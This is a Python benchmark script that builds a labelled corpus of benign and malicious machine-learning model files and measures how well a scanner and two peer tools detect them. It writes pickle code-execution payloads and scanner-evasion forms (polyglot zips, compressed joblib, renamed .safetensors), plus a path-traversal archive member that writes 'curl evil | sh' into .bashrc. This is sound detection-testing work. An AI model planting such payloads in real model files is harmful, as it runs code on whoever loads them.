"""Detection and false-positive rates of the committed-model-file scan, on a labelled corpus built here.

    python bench/model_files.py [--keep DIR] [--malicious-dir DIR] [--benign-dir DIR] [--json]

Benign files are written by the real libraries that are installed (torch CPU, scikit-learn, joblib, numpy,
safetensors, onnx, h5py): state_dicts, whole models, training checkpoints, sparse/quantized/nested tensors,
TorchScript, the legacy torch format, estimators and pipelines via pickle and every joblib compression, .npy
and .npz, safetensors, ONNX, HDF5 weights, and hand-written GGUF/Keras files. Malicious files are generated:
code-execution payloads (os/posix/subprocess/eval/exec/getattr chains/importlib/runpy/webbrowser/socket/nested
pickle.loads/numpy runstring, ...) in every container form (raw pickles of protocols 0-5 with evasion prefixes
and trailing bytes, torch zips, extra zip members, legacy torch, object .npy, .npz, zlib/gzip/bz2/lzma/xz
joblib, tar.gz, nested archives, pickle+zip polyglots, pickles named .safetensors) and code in non-pickle
formats (Keras Lambda, TF PyFunc, ONNX custom ops). `--malicious-dir/--benign-dir` add files labelled by
you (e.g. other scanners' test samples; nothing from them is ever loaded).

"Flagged" means any finding of malicious-pickle, suspicious-pickle, unsafe-model-code or
unanalysable-model-file (any severity); "blocking only" counts only those of error severity under the built-in
policy (the ones that fail a scan; a warning such as a user's own `__main__` class does not). The format rule
(`unsafe-artifact-format`) is left out: it judges the format, not the content. picklescan and modelscan run
side by side when installed (`pip install -e '.[peers]'`).
"""

from __future__ import annotations

import argparse
import bz2
import gzip
import json
import lzma
import os
import pickle
import shutil
import struct
import sys
import tempfile
import time
import zlib
from pathlib import Path
from types import SimpleNamespace

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from tests.verify.model_samples import tar_bytes as _tar  # noqa: E402 (the same archive writers as the tests)
from tests.verify.model_samples import zip_bytes as _zip  # noqa: E402

CONTENT_RULES = {"malicious-pickle", "suspicious-pickle", "unsafe-model-code", "unanalysable-model-file"}


# --- malicious payloads (bytes only; never loaded) ---------------------------------------------------------


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _call(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


def payloads() -> dict[str, bytes]:
    """Protocol-2 pickles whose load runs code, one per technique the scanners' own test suites use."""
    p2 = b"\x80\x02"
    import_module = _call(_global("importlib", "import_module"), _text("os"))
    return {
        "os_system": p2 + _call(_global("os", "system"), _text("id")) + b".",
        "posix_system": p2 + _call(_global("posix", "system"), _text("id")) + b".",
        "nt_system": p2 + _call(_global("nt", "system"), _text("id")) + b".",
        "subprocess_popen": p2 + _call(_global("subprocess", "Popen"), _text("id")) + b".",
        "subprocess_check_output": p2 + _call(_global("subprocess", "check_output"), _text("id")) + b".",
        "builtins_eval": p2 + _call(_global("builtins", "eval"), _text("__import__('os').system('id')")) + b".",
        "builtins_exec": p2 + _call(_global("builtins", "exec"), _text("import os")) + b".",
        "py2_builtin_eval": p2 + _call(_global("__builtin__", "eval"), _text("1")) + b".",
        "builtins_compile": p2 + _call(_global("builtins", "compile"), _text("1"), _text("f"), _text("eval")) + b".",
        "getattr_chain": p2 + _call(_call(_global("builtins", "getattr"), import_module, _text("system")),
                                    _text("id")) + b".",
        "builtins_import": p2 + _call(_global("builtins", "__import__"), _text("os")) + b".",
        "runpy": p2 + _call(_global("runpy", "_run_code"), _text("import os"), b"}") + b".",
        "webbrowser": p2 + _call(_global("webbrowser", "open"), _text("http://example.invalid")) + b".",
        "socket": p2 + _call(_global("socket", "create_connection"), b"(" + _text("example.invalid") +
                             b"J\x50\x00\x00\x00t") + b".",
        "pty_spawn": p2 + _call(_global("pty", "spawn"), _text("/bin/sh")) + b".",
        "shutil_rmtree": p2 + _call(_global("shutil", "rmtree"), _text("/tmp/x")) + b".",
        "nested_pickle_loads": p2 + _call(_global("_pickle", "loads"), b"C\x05hello") + b".",
        "numpy_runstring": p2 + _call(_global("numpy.testing._private.utils", "runstring"), _text("1"), b"}") + b".",
        "torch_hub_load": p2 + _call(_global("torch.hub", "load"), _text("evil/repo"), _text("m")) + b".",
        "operator_attrgetter": p2 + _call(_global("operator", "attrgetter"), _text("system")) + b".",
        "functools_partial": p2 + _call(_global("functools", "partial"), _global("os", "system"),
                                        _text("id")) + b".",
        "code_interact": p2 + _call(_global("code", "InteractiveInterpreter")) + b".",
        "pip_main": p2 + _call(_global("pip", "main"), b"(" + _text("install") + b"l") + b".",
        "asyncio_subprocess": p2 + _call(_global("asyncio.subprocess", "create_subprocess_shell"),
                                         _text("id")) + b".",
        "stack_global": b"\x80\x04" + b"\x8c\x02os\x94\x8c\x06system\x94\x93" + b"\x8c\x02id\x94\x85R." ,
        "inst_opcode": b"(S'id'\nios\nsystem\n.",
        "obj_opcode": b"\x80\x02(" + _global("os", "system") + _text("id") + b"o.",
        "memo_indirection": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93\x8c\x02id\x85R.",
        "unknown_module_call": p2 + _call(_global("evil_module", "run"), _text("id")) + b".",
        "dunder_reduce": p2 + _call(_global("builtins", "__reduce__")) + b".",
    }


class _Protocol:
    """A payload re-pickled at another protocol: `os.system('id')` with the pickler's own opcodes."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def _npy_object(pickled: bytes) -> bytes:
    header = repr({"descr": "|O", "fortran_order": False, "shape": (1,)}).encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


_LEGACY = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19." + pickle.dumps(1001, 2) + pickle.dumps({"x": 1}, 2)


def malicious_corpus(out: Path) -> None:
    benign_pickle = pickle.dumps({"w": [1.0, 2.0]}, protocol=2)
    for name, data in payloads().items():
        (out / f"{name}.pkl").write_bytes(data)
    evil = payloads()["os_system"]
    forms = {
        "p0.pkl": pickle.dumps(_Protocol("id"), 0), "p1.bin": pickle.dumps(_Protocol("id"), 1),
        "p3.pt": pickle.dumps(_Protocol("id"), 3), "p4.ckpt": pickle.dumps(_Protocol("id"), 4),
        "p5.dat": pickle.dumps(_Protocol("id"), 5), "p0_noext": pickle.dumps(_Protocol("id"), 0),
        "n0_prefix.pkl": b"N0" + pickle.dumps(_Protocol("id"), 0),
        "mark_pop_prefix.pkl": b"(0" + pickle.dumps(_Protocol("id"), 0),
        "trailing_bytes.pkl": evil + os.urandom(64),
        "renamed.safetensors": evil,
        "torch_zip.pt": _zip({"archive/data.pkl": evil, "archive/data/0": b"\0" * 16, "archive/version": b"3\n"}),
        "torch_zip_extra_member.pt": _zip({"archive/data.pkl": benign_pickle, "archive/extra/blob": evil}),
        "torch_legacy.bin": _LEGACY + evil + pickle.dumps(["0"], 2) + b"\0" * 32,
        "object.npy": _npy_object(evil),
        "arrays.npz": _zip({"a.npy": _npy_object(evil)}),
        "zlib.joblib": zlib.compress(evil), "gzip.joblib": gzip.compress(evil), "bz2.joblib": bz2.compress(evil),
        "lzma.joblib": lzma.compress(evil, format=lzma.FORMAT_ALONE), "xz.joblib": lzma.compress(evil),
        "joblib_zf_legacy.pkl": b"ZF" + hex(len(evil)).encode().ljust(19) + zlib.compress(evil),
        "torch_zip_member_under_data.pt": _zip({"archive/data.pkl": benign_pickle, "archive/data/x.pkl": evil}),
        "model.tar.gz": _tar({"model/data.pkl": evil}),
        "nested.zip": _zip({"inner.tar": _tar({"deep/model.pt": _zip({"archive/data.pkl": evil})}, "w")}),
        "polyglot_pickle_zip.pt": evil + _zip({"archive/data.pkl": benign_pickle}),
        "polyglot_zip_payload.pt": benign_pickle + _zip({"archive/data.pkl": evil}),
        "traversal.zip": _zip({"../../../home/user/.bashrc": b"curl evil | sh\n", "model.pkl": benign_pickle}),
        "keras_lambda.keras": _zip({"config.json": json.dumps({"class_name": "Functional", "config": {"layers": [
            {"class_name": "Lambda", "config": {"name": "l", "function": {"class_name": "__lambda__"}}}]}}).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 32}),
    }
    for name, data in forms.items():
        (out / name).write_bytes(data)
    (out / "pyfunc").mkdir()
    (out / "pyfunc" / "saved_model.pb").write_bytes(_saved_model_pyfunc())
    _optional(lambda: _onnx_custom(out / "custom_op.onnx"))
    _optional(lambda: _h5_lambda(out / "lambda.h5"))


def _saved_model_pyfunc() -> bytes:
    def field(number: int, data: bytes | str) -> bytes:
        data = data.encode() if isinstance(data, str) else data
        return bytes([number << 3 | 2, len(data)]) + data

    graph = field(1, field(1, "x") + field(2, "Placeholder")) + field(1, field(1, "py") + field(2, "PyFunc"))
    return b"\x08\x01" + field(2, field(2, graph))


def _onnx_custom(path: Path) -> None:
    import onnx
    from onnx import TensorProto, helper

    node = helper.make_node("Run", ["x"], ["y"], domain="ai.onnx.contrib", name="py")
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17),
                                                      helper.make_opsetid("ai.onnx.contrib", 1)]), str(path))


def _h5_lambda(path: Path) -> None:
    import h5py

    with h5py.File(path, "w") as handle:
        handle.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [
            {"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAAA", None, None]}}]}})
        handle.create_dataset("w", data=[1.0])


# --- benign files from the real libraries ------------------------------------------------------------------


def _optional(build) -> str | None:
    try:
        build()
        return None
    except ImportError as exc:
        return str(exc)


def benign_corpus(out: Path) -> list[str]:
    missing = []
    for build in (_torch_files, _sklearn_files, _numpy_files, _safetensors_files, _onnx_files, _h5_files):
        problem = _optional(lambda build=build: build(out))
        if problem:
            missing.append(problem)
    (out / "chat.gguf").write_bytes(_gguf("{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] | trim }}"
                                          "{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}"))
    (out / "plain.keras").write_bytes(_zip({"config.json": json.dumps({"class_name": "Sequential", "config": {
        "layers": [{"class_name": "Dense", "config": {"name": "d", "units": 3}}]}}).encode(),
        "metadata.json": b"{}", "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\0" * 32}))
    return missing


def _gguf(template: str) -> bytes:
    def string(text: str) -> bytes:
        return struct.pack("<Q", len(text.encode())) + text.encode()

    kvs = [string("general.architecture") + struct.pack("<I", 8) + string("llama"),
           string("tokenizer.chat_template") + struct.pack("<I", 8) + string(template)]
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs)) + b"".join(kvs)


def _torch_files(out: Path) -> None:
    import argparse as _argparse
    import collections

    import numpy as np
    import torch

    torch.manual_seed(0)
    mlp = torch.nn.Sequential(torch.nn.Linear(8, 16), torch.nn.ReLU(), torch.nn.LayerNorm(16), torch.nn.Linear(16, 2))
    conv = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.Flatten())
    optimizer = torch.optim.AdamW(mlp.parameters(), lr=1e-3)
    mlp(torch.randn(2, 8)).sum().backward()
    optimizer.step()
    torch.save(mlp.state_dict(), out / "pytorch_model.bin")
    torch.save(conv.state_dict(), out / "conv_state.pth")
    torch.save(mlp, out / "whole_model.pt")
    torch.save(conv, out / "whole_conv.pt")
    torch.save({"state_dict": mlp.state_dict(), "optimizer_states": [optimizer.state_dict()], "epoch": 3,
                "global_step": np.int64(120), "hparams": _argparse.Namespace(lr=1e-3, layers=[8, 16]),
                "metric": np.float64(0.93), "lr_schedulers": [], "callbacks": collections.OrderedDict(),
                "pytorch-lightning_version": "2.5.0"}, out / "last.ckpt")
    torch.save({"model": mlp.state_dict(), "optimizer": optimizer.state_dict(), "scaler": {"scale": 65536.0}},
               out / "training_state.pt")
    torch.save(torch.randn(6, 6).to_sparse(), out / "sparse_coo.pt")
    torch.save(torch.randn(4, 4).to_sparse_csr(), out / "sparse_csr.pt")
    torch.save(torch.quantize_per_tensor(torch.randn(8), 0.1, 0, torch.qint8), out / "quantized.pt")
    torch.save(torch.quantize_per_channel(torch.randn(4, 3), torch.tensor([0.1, 0.2, 0.3, 0.4]),
                                          torch.tensor([0, 0, 0, 0]), 0, torch.quint8), out / "quantized_channel.pt")
    quantized_model = torch.ao.quantization.quantize_dynamic(torch.nn.Sequential(torch.nn.Linear(4, 4)),
                                                             {torch.nn.Linear}, dtype=torch.qint8)
    torch.save(quantized_model.state_dict(), out / "dynamic_quantized_state.pt")
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.save(torch.nested.nested_tensor([torch.randn(2), torch.randn(3)]), out / "nested.pt")
    torch.save(mlp.state_dict(), out / "legacy_format.bin", _use_new_zipfile_serialization=False)
    torch.save({"bf16": torch.randn(3).bfloat16(), "half": torch.randn(3).half(), "int": torch.arange(4),
                "bool": torch.ones(2, dtype=torch.bool)}, out / "dtypes.pt")
    _user_class_model(torch, out / "user_class_model.pt")
    torch.jit.save(torch.jit.script(mlp), out / "torchscript.pt")
    torch.jit.save(torch.jit.trace(conv.eval(), torch.randn(1, 3, 5, 5)), out / "traced.pt")


def _user_class_model(torch, path: Path) -> None:
    """`torch.save(model)` from a training script whose model class is its own (`__main__.TinyNet`): a benign file
    that model-gate reports as a suspicious-pickle *warning* by design (issue 14 §3), so it counts among the benign
    files flagged by any finding and not among those blocked."""

    class TinyNet(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.fc = torch.nn.Linear(4, 2)

        def forward(self, x):
            return self.fc(x)

    # pickle saves a class by where it is found: put it where a script's own class is, `__main__`
    TinyNet.__module__, TinyNet.__qualname__ = "__main__", "TinyNet"
    main = sys.modules["__main__"]
    had = hasattr(main, "TinyNet")
    main.TinyNet = TinyNet
    try:
        torch.save(TinyNet(), path)
    finally:
        if not had:
            del main.TinyNet


def _sklearn_files(out: Path) -> None:
    import joblib
    import numpy as np
    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.cluster import KMeans
    from sklearn.decomposition import PCA
    from sklearn.ensemble import (
        GradientBoostingClassifier,
        HistGradientBoostingClassifier,
        IsolationForest,
        RandomForestClassifier,
    )
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.model_selection import GridSearchCV
    from sklearn.neighbors import KNeighborsClassifier, NearestNeighbors
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer, OneHotEncoder, StandardScaler
    from sklearn.svm import SVC, LinearSVC

    rng = np.random.default_rng(0)
    features = rng.random((60, 4))
    labels = (features[:, 0] > 0.5).astype(int)
    models = {
        "logreg": LogisticRegression().fit(features, labels),
        "forest": RandomForestClassifier(n_estimators=4, random_state=0).fit(features, labels),
        "boosting": GradientBoostingClassifier(n_estimators=3).fit(features, labels),
        "pipeline": Pipeline([("scale", StandardScaler()), ("svc", SVC())]).fit(features, labels),
        "kmeans": KMeans(n_clusters=2, n_init=2, random_state=0).fit(features),
        "pca": PCA(n_components=2).fit(features),
        "tfidf": TfidfVectorizer().fit(["a model file", "another model", "file"]),
        "hist_boosting": HistGradientBoostingClassifier(max_iter=3).fit(features, labels),
        "isolation": IsolationForest(n_estimators=3, random_state=0).fit(features),
        "mlp": MLPClassifier(max_iter=3, random_state=0).fit(features, labels),
        "knn_kd_tree": KNeighborsClassifier(algorithm="kd_tree").fit(features, labels),
        "ball_tree": NearestNeighbors(algorithm="ball_tree").fit(features),
        "calibrated": CalibratedClassifierCV(LinearSVC(), cv=2).fit(features, labels),
        "grid_search": GridSearchCV(Ridge(), {"alpha": [0.1, 1.0]}, cv=2).fit(features, features[:, 1]),
        "log_transform": FunctionTransformer(np.log1p).fit(features),
        "one_hot": OneHotEncoder().fit(np.array([["a"], ["b"]], dtype=object)),
    }
    for name, model in models.items():
        with open(out / f"{name}.pkl", "wb") as handle:
            pickle.dump(model, handle, protocol=pickle.HIGHEST_PROTOCOL)
        joblib.dump(model, out / f"{name}.joblib")
    for compress in (3, ("gzip", 3), ("bz2", 3), ("lzma", 3), ("xz", 3)):
        tag = compress[0] if isinstance(compress, tuple) else "zlib"
        joblib.dump(models["forest"], out / f"forest.{tag}.joblib", compress=compress)
    try:
        joblib.dump(models["pipeline"], out / "pipeline.lz4.joblib", compress=("lz4", 3))
    except (ImportError, ValueError):
        pass
    with open(out / "pipeline_p2.pkl", "wb") as handle:
        pickle.dump(models["pipeline"], handle, protocol=2)


def _numpy_files(out: Path) -> None:
    import numpy as np

    np.save(out / "embeddings.npy", np.random.default_rng(0).random((16, 8)).astype(np.float32))
    np.save(out / "objects.npy", np.array([{"label": "cat"}, [1, 2]], dtype=object), allow_pickle=True)
    np.savez(out / "arrays.npz", a=np.zeros(3), b=np.arange(4))
    np.savez_compressed(out / "compressed.npz", a=np.ones((4, 4)))
    with open(out / "array.pkl", "wb") as handle:
        pickle.dump({"mean": np.zeros(3), "std": np.float32(1.0), "rng": np.random.default_rng(1)}, handle)


def _safetensors_files(out: Path) -> None:
    import numpy as np
    from safetensors.numpy import save_file

    save_file({"w": np.zeros((4, 4), dtype=np.float32)}, str(out / "model.safetensors"))
    save_file({f"layer{i}.weight": np.ones((2, 2), dtype=np.float16) for i in range(40)},
              str(out / "many.safetensors"))


def _onnx_files(out: Path) -> None:
    import onnx
    from onnx import TensorProto, helper

    weight = helper.make_tensor("w", TensorProto.FLOAT, [2, 2], [1.0, 0.0, 0.0, 1.0])
    node = helper.make_node("MatMul", ["x", "w"], ["y"], name="mm")
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 2])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])], [weight])
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), str(out / "model.onnx"))


def _h5_files(out: Path) -> None:
    import h5py

    with h5py.File(out / "weights.h5", "w") as handle:
        handle.create_dataset("dense/kernel", data=[[1.0, 2.0]])
        handle.attrs["model_config"] = json.dumps({"class_name": "Sequential", "config": {"layers": [
            {"class_name": "Dense", "config": {"name": "dense", "units": 2}}]}})


# --- scanners ------------------------------------------------------------------------------------------------


def model_gate(corpus: Path) -> tuple[dict[str, set[str]], float]:
    """{severity: flagged paths} and seconds, for discovery + the content checks under the built-in policy."""
    from gate.discover.engine import discover
    from gate.policy.load import load_policy
    from tests.verify.contenttools import check_local_artifacts

    started = time.perf_counter()
    references = discover(str(corpus), jobs=1).references
    policy = load_policy(None, str(corpus), text="version: 1\n", label="bench")
    outcome = check_local_artifacts(policy, references, SimpleNamespace(root=str(corpus), sigstore_trust_config=None))
    elapsed = time.perf_counter() - started
    flagged: dict[str, set[str]] = {"any": set(), "error": set()}
    for finding in outcome.findings:
        if finding.rule in CONTENT_RULES:
            flagged["any"].add(finding.path)
            if finding.severity == "error":
                flagged["error"].add(finding.path)
    return flagged, elapsed


def picklescan(files: list[Path], corpus: Path) -> tuple[set[str], float] | None:
    try:
        from picklescan.scanner import scan_file_path
    except ImportError:
        return None
    started = time.perf_counter()
    flagged = set()
    for path in files:
        try:
            result = scan_file_path(str(path))
            if result.infected_files or result.scan_err:
                flagged.add(path.relative_to(corpus).as_posix())
        except Exception:  # noqa: BLE001 - a peer crashing on a file counts as flagging it
            flagged.add(path.relative_to(corpus).as_posix())
    return flagged, time.perf_counter() - started


def modelscan(files: list[Path], corpus: Path) -> tuple[set[str], float] | None:
    try:
        import logging

        from modelscan.modelscan import ModelScan
    except ImportError:
        return None
    logging.disable(logging.CRITICAL)
    started = time.perf_counter()
    flagged = set()
    for path in files:
        try:
            with open(os.devnull, "w") as null, _redirect(null):
                result = ModelScan().scan(path)
            if result.get("issues") or result.get("errors"):
                flagged.add(path.relative_to(corpus).as_posix())
        except Exception:  # noqa: BLE001
            flagged.add(path.relative_to(corpus).as_posix())
    return flagged, time.perf_counter() - started


def _redirect(target):
    import contextlib

    stack = contextlib.ExitStack()
    stack.enter_context(contextlib.redirect_stdout(target))
    stack.enter_context(contextlib.redirect_stderr(target))
    return stack


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--keep", help="write the corpus here and keep it")
    parser.add_argument("--malicious-dir", help="extra files labelled malicious (copied in, never loaded)")
    parser.add_argument("--benign-dir", help="extra files labelled benign")
    parser.add_argument("--json", action="store_true", help="print the figures as JSON")
    args = parser.parse_args()
    base = Path(args.keep) if args.keep else Path(tempfile.mkdtemp(prefix="model-gate-corpus-"))
    try:
        corpus = {"malicious": base / "malicious", "benign": base / "benign"}
        for directory in corpus.values():
            shutil.rmtree(directory, ignore_errors=True)
            directory.mkdir(parents=True)
        malicious_corpus(corpus["malicious"])
        missing = benign_corpus(corpus["benign"])
        for label, extra in (("malicious", args.malicious_dir), ("benign", args.benign_dir)):
            if extra:
                shutil.copytree(extra, corpus[label] / "extra", dirs_exist_ok=True)
        files = {label: sorted(p for p in directory.rglob("*") if p.is_file()) for label, directory in corpus.items()}
        names = {label: {p.relative_to(base).as_posix() for p in paths} for label, paths in files.items()}
        total = sum(len(paths) for paths in files.values())

        flagged, seconds = model_gate(base)
        rows = {"model-gate": (flagged["any"], seconds), "model-gate (blocking only)": (flagged["error"], seconds)}
        for name, peer in (("picklescan", picklescan), ("modelscan", modelscan)):
            result = peer(files["malicious"] + files["benign"], base)
            if result is not None:
                rows[name] = result
        figures = {}
        for name, (hits, elapsed) in rows.items():
            caught = names["malicious"] & hits
            false = names["benign"] & hits
            figures[name] = {
                "malicious_flagged": f"{len(caught)}/{len(names['malicious'])}",
                "detection_rate": round(100 * len(caught) / max(len(names["malicious"]), 1), 1),
                "benign_flagged": f"{len(false)}/{len(names['benign'])}",
                "false_positive_rate": round(100 * len(false) / max(len(names["benign"]), 1), 1),
                "seconds_per_100_files": round(100 * elapsed / max(total, 1), 3),
                "missed": sorted(names["malicious"] - hits),
                "false_positives": sorted(false),
            }
        benign_rates = {"every_finding": figures["model-gate"]["benign_flagged"],
                        "every_finding_rate": figures["model-gate"]["false_positive_rate"],
                        "blocking_only": figures["model-gate (blocking only)"]["benign_flagged"],
                        "blocking_only_rate": figures["model-gate (blocking only)"]["false_positive_rate"]}
        if args.json:
            print(json.dumps({"files": {k: len(v) for k, v in names.items()}, "libraries_missing": missing,
                              "model_gate_benign_flagged": benign_rates, "tools": figures}, indent=2))
            return 0
        print(f"corpus: {len(names['malicious'])} malicious, {len(names['benign'])} benign files"
              + (f" (not built: {'; '.join(missing)})" if missing else ""))
        print(f"{'tool':<26} {'malicious flagged':>20} {'benign flagged':>17} {'s / 100 files':>14}")
        for name, row in figures.items():
            print(f"{name:<26} {row['malicious_flagged']:>11} ({row['detection_rate']:5.1f}%) "
                  f"{row['benign_flagged']:>8} ({row['false_positive_rate']:4.1f}%) {row['seconds_per_100_files']:>14}")
        print(f"model-gate benign files flagged: {benign_rates['every_finding']} "
              f"({benign_rates['every_finding_rate']:.1f}%) counting every finding; "
              f"{benign_rates['blocking_only']} ({benign_rates['blocking_only_rate']:.1f}%) counting only blocking "
              "findings (error severity under the built-in policy)")
        for name, row in figures.items():
            if row["missed"]:
                print(f"{name} missed: {', '.join(row['missed'])}")
            if row["false_positives"]:
                print(f"{name} false positives: {', '.join(row['false_positives'])}")
        return 0
    finally:
        if not args.keep:
            shutil.rmtree(base, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
